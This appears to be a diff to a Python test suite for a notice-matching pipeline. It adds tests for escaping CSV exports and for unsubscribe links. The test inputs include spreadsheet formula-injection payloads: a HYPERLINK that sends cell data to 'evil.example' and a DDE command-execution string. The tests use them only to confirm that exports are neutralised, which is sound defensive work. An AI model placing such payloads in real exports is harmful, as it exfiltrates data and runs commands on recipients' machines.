@@ -85,6 +85,8 @@ def test_notices_list_json_has_the_documented_fields(tmp_path):
         "published",
         "comment_deadline",
         "tags",
+        "tag_chars_read",  # set when the notice was too long to be read whole
+        "tag_error",  # why tagging the notice failed, if it did
     }
 
 
@@ -182,3 +184,75 @@ def test_a_locked_database_gives_a_clear_error_after_waiting(tmp_path, monkeypat
         holder.close()
     assert result.exit_code == 1 and "refused the change (database is locked)" in result.output
     assert run("classify").exit_code == 0  # once free, the stage runs from where it was
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3"]
+
+
+def write_enterprises(path, rows):
+    import csv
+
+    with open(path, "w", encoding="utf-8", newline="") as f:
+        writer = csv.writer(f)
+        writer.writerow(["name", "email", "hs_codes", "markets", "language", "keywords"])
+        writer.writerows(rows)
+
+
+def cells(csv_text):
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
+
+
+def test_exports_write_formula_cells_as_text_and_import_them_back_as_they_were(tmp_path):
+    rows = [
+        [name, f"x{i}@maker.example", "4418.75", "US", "en", "\tflooring"] for i, name in enumerate(FORMULAS)
+    ]
+    write_enterprises(tmp_path / "hostile.csv", rows)
+    assert run("enterprises", "import", str(tmp_path / "hostile.csv")).exit_code == 0
+    run("ingest", str(ROOT / "demo/notices.jsonl"))
+    run("classify")
+    run("match")
+    exports = [run("enterprises", "export").stdout, run("alerts", "export", "--format", "csv").stdout]
+    for exported in exports:
+        written = cells(exported)
+        assert not [c for c in written if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert {"'" + name for name in FORMULAS} <= set(cells(exports[0])) & set(cells(exports[1]))
+    (tmp_path / "out.csv").write_text(exports[0], encoding="utf-8")
+    again = run("enterprises", "import", str(tmp_path / "out.csv"))
+    assert again.exit_code == 0 and "0 created, 4 updated" in again.output
+    names = {r["name"] for r in json.loads(run("enterprises", "export", "--format", "json").stdout)}
+    assert names == set(FORMULAS)
+
+
+def test_send_from_another_directory_signs_links_the_server_accepts(tmp_path, monkeypatch):
+    import email
+    from email import policy
+
+    from fastapi.testclient import TestClient
+
+    import pipeline
+    from tests import scenario
+    from web.app import create_app
+
+    url = f"sqlite:///{tmp_path / 'data' / 'bw.db'}"
+    monkeypatch.setenv("BW_DATABASE_URL", url)
+    engine = open_database(url)
+    scenario.load(engine)
+    pipeline.match(engine, Settings(), scenario.NOW)
+    pipeline.approve(engine, None, "inspector-li")
+    cron = tmp_path / "cron"
+    cron.mkdir()
+    monkeypatch.chdir(cron)  # the scheduler's or an operator's working directory
+    assert run("send").exit_code == 0
+    monkeypatch.chdir(tmp_path)  # the web server's
+    mails = list((tmp_path / "outbox" / "new").iterdir())
+    assert mails
+    client = TestClient(create_app(Settings(), engine))
+    for mail in mails:
+        message = email.message_from_bytes(mail.read_bytes(), policy=policy.default)
+        link = message["List-Unsubscribe"].strip("<>").removeprefix("http://127.0.0.1:8000")
+        page = client.get(link)
+        assert page.status_code == 200 and message["To"] in page.text
+    assert not (cron / "var").exists()
